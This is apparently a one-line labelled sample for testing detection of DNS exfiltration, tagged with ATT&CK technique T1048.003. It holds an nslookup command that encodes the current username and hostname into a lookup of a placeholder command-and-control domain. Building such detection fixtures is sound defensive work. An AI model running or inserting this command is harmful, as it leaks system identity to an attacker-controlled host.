# expect: dns-exfiltration | source: T1048.003
nslookup "$(whoami).$(hostname).c2.example.invalid"
